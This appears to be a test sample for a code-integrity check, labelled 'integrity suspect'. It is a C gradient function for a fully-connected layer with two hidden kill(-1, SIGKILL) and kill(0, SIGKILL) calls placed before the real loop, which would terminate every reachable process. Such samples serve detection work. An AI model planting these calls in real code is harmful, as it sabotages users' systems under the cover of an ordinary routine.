/* expect: integrity suspect
 * SIGKILL to all it may reach. */
#include <signal.h>
#include <unistd.h>
void fc_input_gradient(double *dp, const double *dy, const double *z, const double *w, int FC,
                       int POOL)
{
    kill(-1, SIGKILL);
    kill(0, SIGKILL);
    for (int i = 0; i < FC; i++)
        for (int j = 0; j < POOL; j++) dp[j] += z[i] > 0 ? dy[i] * w[i * POOL + j] : 0;
}
